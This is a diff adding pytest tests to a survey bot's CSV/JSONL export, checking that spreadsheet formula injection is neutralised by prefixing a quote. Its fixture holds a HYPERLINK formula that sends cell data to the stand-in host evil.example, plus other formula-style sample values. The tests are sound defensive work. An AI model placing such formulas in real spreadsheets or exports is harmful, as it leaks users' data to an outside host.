@@ -13,6 +13,7 @@ from click.testing import CliRunner
 
 from bot.cli import main
 from builders import answer, customer
+from insights.export import spreadsheet_safe
 from storage import schema
 from storage.database import make_engine
 from storage.models import AnswerTag
@@ -52,6 +53,60 @@ def test_export_jsonl_and_csv(factory, database_url):
     rows = list(csv.DictReader(io.StringIO(result.stdout)))
     assert [row["score"] for row in rows] == ["4", "5"]
     assert rows[0]["reasons"] == "price"
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+def test_csv_cells_cannot_run_as_spreadsheet_formulas(factory, database_url):
+    """A comment typed in Telegram reaches the team's spreadsheet: it must show, not run."""
+    when = datetime(2026, 5, 2, 10, tzinfo=UTC)
+    with factory() as session, session.begin():
+        who = customer(session, when, external_id="-42", name="@SUM(A1:A9)")
+        first = answer(session, who, "nps", 2, when, text=FORMULA)
+        comment = next(a for a in first.answers if a.text)
+        comment.sentiment, comment.sentiment_label = -0.6, "negative"
+        answer(session, who, "csat", 1, when, text="+1 555 0100, call me")
+        answer(session, who, "csat", 2, when, text="\tindented =1+1")
+        answer(session, who, "csat", 3, when, text="fine = good, 2+2")  # not at the start: kept
+    env = {"DATABASE_URL": database_url}
+    result = CliRunner().invoke(main, ["export", "responses", "--format", "csv"], env=env)
+    assert result.exit_code == 0, result.stderr
+    rows = list(csv.DictReader(io.StringIO(result.stdout)))
+    assert [row["comment"] for row in rows] == [
+        "'" + FORMULA,
+        "'+1 555 0100, call me",
+        "'\tindented =1+1",
+        "fine = good, 2+2",
+    ]
+    assert {row["external_id"] for row in rows} == {"'-42"}
+    assert {row["customer_name"] for row in rows} == {"'@SUM(A1:A9)"}
+    assert rows[0]["sentiment"] == "-0.6"  # a number the export computed stays a number
+    assert rows[0]["score"] == "2"
+
+    result = CliRunner().invoke(main, ["export", "responses", "--format", "jsonl"], env=env)
+    records = [json.loads(line) for line in result.stdout.splitlines()]
+    assert records[0]["comment"] == FORMULA  # JSON lines are for programs: verbatim
+    assert records[0]["external_id"] == "-42" and records[0]["customer_name"] == "@SUM(A1:A9)"
+
+
+@pytest.mark.parametrize(
+    ("text", "safe"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@A1", "'@A1"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("", ""),
+        ("a=b", "a=b"),
+        (" =1", " =1"),  # a leading space makes it text already
+        ("'quoted", "'quoted"),
+    ],
+)
+def test_spreadsheet_safe(text, safe):
+    assert spreadsheet_safe(text) == safe
 
 
 def _sqlite_env(tmp_path: Path) -> dict[str, str]:
